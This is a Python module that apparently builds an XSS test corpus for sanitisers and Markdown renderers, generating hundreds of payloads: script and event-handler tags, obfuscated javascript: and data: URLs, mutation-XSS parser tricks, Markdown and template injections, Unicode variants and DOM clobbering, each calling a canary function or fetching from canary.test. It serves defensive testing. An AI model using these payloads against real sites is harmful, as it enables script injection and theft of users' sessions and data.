"""Texts that run a script, or fetch something, in a page that trusts them.

Made from what they consist of: elements and handlers, spellings of addresses, places in a page,
Markdown, and what parsers understand differently.
"""

from base64 import b64encode
from collections.abc import Iterator
from html import escape
from itertools import chain, product
from urllib.parse import quote

# Nobody has this name (RFC 6761): a request for it was caused by one of these texts.
HOST = "canary.test"
# A call, an address, a script in base64, and what tells one text from the others.
RUN, AWAY, PACKED, NUMBER = "RUN", "AWAY", "PACKED", "NUMBER"

_CALLS = (
    "alert(NUMBER)",
    "confirm(NUMBER)",
    "prompt`NUMBER`",
    "console.log(NUMBER)",
    "top['ale'+'rt'](NUMBER)",
    "(canary)?.(NUMBER)",
    "[NUMBER].map(canary)",
    "self[`canary`](NUMBER)",
    "Function('canary(NUMBER)')()",
    "setTimeout('canary(NUMBER)')",
    "eval('\\x63anary(NUMBER)')",
    "\\u0063anary(NUMBER)",
    "onerror=canary;throw NUMBER",
    "throw new Error(NUMBER)",
    "Promise.reject(NUMBER)",
    "new Image().src='AWAY'",
    "fetch('AWAY')",
    "navigator.sendBeacon('AWAY')",
    "import('data:text/javascript,canary(NUMBER)')",
    "location='javascript:canary(NUMBER)'",
)
# What visitors may write, and therefore what a sanitiser keeps.
_ALLOWED = (
    *("a", "blockquote", "code", "em", "h1", "hr", "li", "ol", "p", "pre", "s", "strong"),
    *("table", "td", "ul"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "ondblclick", "onauxclick", "oncontextmenu", "onfocus"),
    *("onfocusin", "onblur", "onmouseover", "onmouseenter", "onmousemove", "onwheel", "onscroll"),
    *("onpointerover", "onpointerdown", "onpointerrawupdate", "onkeydown", "oninput", "onchange"),
    *("onbeforeinput", "oncopy", "onpaste", "ondragstart", "ondrop", "ontoggle", "onsubmit"),
    *(
        "onbeforetoggle",
        "onanimationstart",
        "ontransitionend",
        "onscrollend",
        "ongotpointercapture",
    ),
)
# These need nobody to touch them.
_BY_THEMSELVES = (
    "<img src=x onerror=RUN>",
    "<IMG SRC=x ONERROR=RUN>",
    "<image src=x onerror=RUN>",
    "<img src=x onerror=RUN//",
    "<img src=data: onerror=RUN alt='",
    "<img srcset=x onerror=RUN>",
    "<picture><source srcset=x><img onerror=RUN></picture>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    "<svg><image href=x onerror=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN></script></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text x=9 y=9>x</text></a>",
    "<video src=x onerror=RUN></video>",
    "<video><source onerror=RUN src=x></video>",
    "<audio src=x onerror=RUN></audio>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<button autofocus onfocus=RUN>x</button>",
    "<p contenteditable autofocus onfocus=RUN>x</p>",
    "<marquee onstart=RUN>x</marquee>",
    "<object data=x onerror=RUN></object>",
    "<embed src=data:text/html, onload=RUN>",
    "<iframe onload=RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;'></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<frameset onload=RUN>",
    "<link rel=stylesheet href=x onerror=RUN>",
    "<style onload=RUN></style>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=RUN>x",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<template><script>RUN</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
)
_SCRIPTS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script\t>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script x>RUN</script x>",
    "<script type=module>RUN</script>",
    "<script>RUN",
    "<script>RUN//",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<scr\0ipt>RUN</scr\0ipt>",
    "<script>\u2028RUN\u2029</script>",
    "<script><!--\nRUN\n--></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<script src=AWAY></script>",
    "<script src=data:;base64,PACKED async></script>",
    "<script>/*<script>*/RUN</script>",
    "<script>`</p>`;RUN</script>",
    "<\x00script>RUN</script>",
    "<%00script>RUN</script>",
    "</script><script>RUN</script>",
)
_SEPARATORS = (
    " ",
    "/",
    "//",
    "\t",
    "\n",
    "\f",
    "\r\n",
    "\n\n",
    "/x=",
    " '",
    ' "',
    " \0",
    "\xa0",
    "\v",
)
_QUOTES = ("", "'", '"', "`")
# Where a text may be put without being escaped, and how it gets out of there.
_WAYS_OUT = (
    *("\"'>", "'>", ">", "\"'/>", "-->", "--!>", "]]>", "?>", "%>", "*/", "</a>", "</p>", "</pre>"),
    *("</textarea>", "</title>", "</style>", "</noscript>", "</template>", "</option></select>"),
    *("</script>", "</iframe>", "</code></pre>", "</svg>", "</math>", "\\\"'>", "\0\"'>"),
)
_TOOLS = ("<script>RUN</script>", "<img src=x onerror=RUN>", "<svg onload=RUN>")
_SCHEMES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "  javascript:RUN",
    "\x01javascript:RUN",
    "\x1fjavascript:RUN",
    "\ufeffjavascript:RUN",
    "\u200bjavascript:RUN",
    "\u2028javascript:RUN",
    "\xa0javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\r\nscript:RUN",
    "java\0script:RUN",
    "java\u00adscript:RUN",
    "javascript\t:RUN",
    "javascript :RUN",
    "java\\script:RUN",
    "javascript\\:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "java&#9;script:RUN",
    "java&#x0A;script:RUN",
    "java&#13script:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "javascript&#x3A;RUN",
    "javascript&#0000058RUN",
    "&#106;avascript:RUN",
    "&#x6a;avascript:RUN",
    "&#x000006Aavascript:RUN",
    "&amp;#106;avascript:RUN",
    "&#1;javascript:RUN",
    "%6aavascript:RUN",
    "javascript%3ARUN",
    "java%0ascript:RUN",
    "javascript:%63anary(NUMBER)",
    "javascript://%0aRUN",
    "javascript://comment%0d%0aRUN",
    "javascript:/*http://example.com/*/RUN",
    "javascript:void(0);RUN",
    "javascript:javascript:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:javascript:RUN",
    "http:javascript:RUN",
    "\uff4aavascript:RUN",
    "ja\u1d20ascript:RUN",
    "java\u017fcript:RUN",
    "javascript\uff1aRUN",
    "\u202ejavascript:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "mocha:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PACKED",
    "DATA:text/html;charset=utf-8,%3Csvg onload=RUN%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "data:text/xml,<?xml-stylesheet href='javascript:RUN'?><a/>",
    "data:,RUN",
    "blob:javascript:RUN",
    "filesystem:javascript:RUN",
    "about:blank#<script>RUN</script>",
    "file:///etc/passwd?RUN",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "[x][rNUMBER]\n\n[rNUMBER]: {}",
    '<a href="{}">x</a>',
)
_HOLDERS = (
    "[x](<{}> 'title')",
    "[rNUMBER]\n\n[rNUMBER]: <{}> (title)",
    "[xNUMBER][]\n\n[XNUMBER]: {}",
    "![x]({})",
    "![x][rNUMBER]\n\n[rNUMBER]: {}",
    "[![x]({0})]({0})",
    "[*x* `y` <b>z</b>]({})",
    "<{}>",
    "<a href={}>x</a>",
    "<a href='{}'>x</a>",
    "<A HREF = '{}'>x</A>",
    "<a\nhref\n=\n'{}'\n>x</a>",
    "<a href=http://example.com href='{}'>x</a>",
    "<a href='{}' href=http://example.com>x</a>",
    "<a xlink:href='{}'>x</a>",
    "<svg><a href='{}'><text y=9>x</text></a></svg>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<math href='{}'>x</math>",
    "<math><mtext href='{}'>x</mtext></math>",
    "<map><area href='{}' shape=default></map>",
    "<form action='{}'><button>x</button></form>",
    "<button form=f formaction='{}'>x</button><form id=f></form>",
    "<input type=submit form=g formaction='{}'><form id=g></form>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<blockquote cite='{}'>x</blockquote>",
    "<base href='{}//'><a href=x>x</a>",
    "<link rel=import href='{}'>",
    "<table background='{}'>x</table>",
)
_FOREIGN = (
    "svg",
    "math",
    "math><mtext",
    "math><mi><mglyph",
    "svg><desc",
    "svg><foreignObject",
    "math><annotation-xml encoding=text/html",
)
_RAW = (
    "style",
    "title",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "textarea",
    "template",
)
_MUTANTS = (
    "<svg></p><style><a title='</style><img src=x onerror=RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<svg><style><![CDATA[</style><img src=x onerror=RUN>]]></style></svg>",
    "<table><tr><svg><foreignObject><tr><img src=x onerror=RUN>",
    "<select><style></select><img src=x onerror=RUN></style>",
    "<a href='x`'>`<img src=x onerror=RUN>`</a>",
    "<p title='`x'>`' onmouseover=RUN ",
    "<code title='</code><img src=x onerror=RUN>'>x</code>",
    "<pre>\n\n\n<listing>\n<img src=x onerror=RUN></pre>",
    "<plaintext><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->",
    "<!---><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?><img src=x onerror=RUN>?>",
    "<!doctype <img src=x onerror=RUN>>",
    "</ <img src=x onerror=RUN>>",
    "</p title='><img src=x onerror=RUN>'>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>RUN</x:script>",
    "<a><table><a><svg><desc><a><script>RUN</script>",
    "<b><p><b><p></b><svg><p><style><!--</style><img src=x onerror=RUN>-->",
)
_MARKDOWN = (
    '[x](http://example.com"onmouseover="RUN)',
    '[x](http://example.com "t" onmouseover="RUN")',
    "[x](http://example.com 't\\' onmouseover=\\'RUN')",
    '[x](http://example.com "&quot; onmouseover=&quot;RUN")',
    "[x](http://example.com/'onclick='RUN)",
    "[x](<http://example.com/> onclick=RUN>)",
    '![x"onerror="RUN](x)',
    '![x](x"onerror="RUN)',
    "![x](x 'y\" onerror=\"RUN')",
    "[<img src=x onerror=RUN>](http://example.com)",
    "[x]: http://example.com '><img src=x onerror=RUN>'\n\n[x]",
    "[<script>RUN</script>]: http://example.com\n\n[<script>RUN</script>]",
    '<http://example.com/"onclick="RUN>',
    "<http://example.com/'><img/src=x/onerror=RUN>",
    "<a@b.test'onclick='RUN>",
    "http://example.com/<img/src=x/onerror=RUN>",
    'www.example.com/"onclick="RUN',
    "[x](http://example.com){onclick=RUN}",
    "# x {onclick=RUN}",
    "# <img src=x onerror=RUN>",
    "> <img src=x onerror=RUN>",
    "* <img src=x onerror=RUN>",
    "1. <script>\n   RUN\n   </script>",
    "**<img src=x onerror=RUN>**",
    "~~<img src=x onerror=RUN>~~",
    "| a |\n|---|\n| <img src=x onerror=RUN> |",
    '| a |\n|:-" onclick="RUN|\n| b |',
    "`<img src=x onerror=RUN>`",
    "```\n</code></pre><img src=x onerror=RUN>\n```",
    '```"><img/src=x/onerror=RUN>\nx\n```',
    '```js" onmouseover="RUN\nx\n```',
    "~~~ onmouseover=RUN\nx\n~~~",
    "    </code></pre><img src=x onerror=RUN>",
    "\\<img src=x onerror=RUN\\>",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "%3Cscript%3ERUN%3C/script%3E",
    "x[^1]\n\n[^1]: <img src=x onerror=RUN>",
    'x[^"onclick="RUN]\n\n[^"onclick="RUN]: y',
    "<img src=x onerror=RUN>\n: <img src=x onerror=RUN>",
    "- [ ] <img src=x onerror=RUN>",
    "<p\nonmouseover=RUN\n>x",
    "<p>\n\n*x*\n\n<img src=x onerror=RUN>\n\n</p>",
    "<div>*x*<div\n\nonmouseover=RUN>",
    "$<img src=x onerror=RUN>$",
    "<details><summary>x</summary>\n\n<img src=x onerror=RUN>\n\n</details>",
)
_TEMPLATES = (
    "${RUN}",
    "`${RUN}`",
    "#{RUN}",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{{{RUN}}}",
    "[[RUN]]",
    "<%= RUN %>",
    "<?= RUN ?>",
    "{%RUN%}",
    "';RUN;//",
    '";RUN;//',
    "\\';RUN;//",
    "'-RUN-'",
    '"+RUN+"',
    "\nRUN\n",
    "\u2028RUN\u2029",
    "*/RUN/*",
    "</script><script>RUN</script>",
    '"}];RUN;[{"',
)
_UNICODE = (
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\ufe64script\ufe65RUN\ufe64/script\ufe65",
    "\u2039img src=x onerror=RUN\u203a",
    "<\u017fcript>RUN</\u017fcript>",
    "<\u0131mg src=x onerror=RUN>",
    "<scr\u0131pt>RUN</scr\u0131pt>",
    "<im\u0261 src=x onerror=RUN>",
    "<\u200bscript>RUN</script>",
    "<script\u200b>RUN</script\u200b>",
    "<\ufeffscript>RUN</script>",
    "\u202e<script>RUN</script>\u202c",
    "<img\u3000src=x\u3000onerror=RUN>",
    "<img\u2028src=x\u2028onerror=RUN>",
    "<img src=x on\u0435rror=RUN>",
    "<img src=x onerror\uff1dRUN>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\x1b(J<script>RUN</script>",
    "<\u0338script>RUN</script>",
)
_FETCHING = (
    "![x](http:AWAY)",
    "<img src=AWAY>",
    "<img srcset='AWAY 1x'>",
    "<video poster=AWAY src=AWAY></video>",
    "<audio src=AWAY autoplay></audio>",
    "<input type=image src=AWAY>",
    "<object data=AWAY></object>",
    "<embed src=AWAY>",
    "<iframe src=AWAY></iframe>",
    "<svg><image href=AWAY /></svg>",
    "<svg><use href=AWAY#x /></svg>",
    "<svg><filter><feImage href=AWAY /></filter></svg>",
    "<p style='background:url(AWAY)'>x</p>",
    "<a href=http://example.com style='list-style:url(AWAY);display:list-item'>x</a>",
    "<style>@import 'AWAY'</style>",
    "<style>p{background:url(AWAY)}</style><p>x</p>",
    "<link rel=stylesheet href=AWAY>",
    "<link rel=preload as=image href=AWAY>",
    "<link rel=prefetch href=AWAY>",
    "<script src=AWAY></script>",
    "<meta http-equiv=refresh content='0;url=AWAY'>",
    "<base href=AWAY><img src=x>",
    "<table background=AWAY><tr><td>x</td></tr></table>",
    "<td background=AWAY>x</td>",
    "<body background=AWAY>",
    "<a href=# ping=AWAY>x</a>",
    "<frameset><frame src=AWAY></frameset>",
    "<track src=AWAY>",
    "<portal src=AWAY></portal>",
    "<form action=AWAY><button>x</button></form>",
)
# What a page's scripts look up by name.
_SHADOWS = (
    "<a id=api href=http:AWAY>x</a><a id=api name=url href=http:AWAY>x</a>",
    "<form id=comments><input name=textContent value=RUN></form>",
    "<img name=getElementById><img name=querySelector>",
    "<p id=comment-form>x</p><p id=reactions>x</p>",
    "<a name=body id=document href=javascript:RUN>x</a>",
)
_EVERYTHING = (
    "javascript:/*--></title></style></textarea></script></xmp><svg onload='+/\"/+RUN//*/'>",
    "\"'--></noscript></template><img src=x onerror=RUN>`${RUN}`<!--'\"><script>RUN</script>",
    "[x](javascript:RUN)'\"><svg/onload=RUN>{{RUN}}</script><script>RUN//`*/</script>",
    "`'\"></code></pre>]]>--!><details/open/ontoggle=RUN><a href=javascript:RUN>x",
)


def injections() -> list[str]:
    """Each once; that number n is alive is told by a call with n, or a request to HOST/n.

    About half of them are where Markdown is rendered and nothing else is done, the others after
    one more careless step: something decoded twice, or what was made safe parsed in another way.
    """
    return [_filled(text, number) for number, text in enumerate(dict.fromkeys(_texts()))]


def addresses() -> list[str]:
    """Those among them that are nothing but an address."""
    return [_filled(text, number) for number, text in enumerate(_SCHEMES)]


def _texts() -> Iterator[str]:
    yield from chain(_SCRIPTS, _BY_THEMSELVES, _MUTANTS, _MARKDOWN, _TEMPLATES, _UNICODE)
    yield from chain(_FETCHING, _SHADOWS, _EVERYTHING)
    calls = ("<script>{}</script>", '<img src=x onerror="{}">')
    yield from (place.format(call) for call, place in product(_CALLS, calls))
    by_touch = ("onclick=RUN", "onmouseover=RUN", "tabindex=1 autofocus onfocus=RUN")
    yield from (f"<{tag} {more}>x</{tag}>" for tag, more in product(_ALLOWED, by_touch))
    yield from (f'<a href="http://example.com" {handler}="RUN">x</a>' for handler in _HANDLERS)
    spaced = product(_SEPARATORS, _QUOTES)
    yield from (f"<img src=x{space}onerror={mark}RUN{mark}>" for space, mark in spaced)
    yield from (way + tool for way, tool in product(_WAYS_OUT, _TOOLS))
    yield from (place.format(address) for address, place in product(_SCHEMES, _LINKS))
    two = ("javascript:RUN", "data:text/html,<script>RUN</script>")
    yield from (place.format(address) for place, address in product(_HOLDERS, two))
    for root, raw in product(_FOREIGN, _RAW):
        yield f'<{root}><{raw}><a title="</{raw}><img src=x onerror=RUN>">'
    for tool in _TOOLS:
        yield from (escape(tool), escape(escape(tool)), quote(tool), quote(quote(tool)))


def _filled(text: str, number: int) -> str:
    call = f"canary({number})"
    packed = b64encode(f"<script>{call}</script>".encode()).decode()
    for word, meant in (
        (AWAY, f"//{HOST}/{number}"),
        (PACKED, packed),
        (RUN, call),
        (NUMBER, str(number)),
    ):
        text = text.replace(word, meant)
    return text
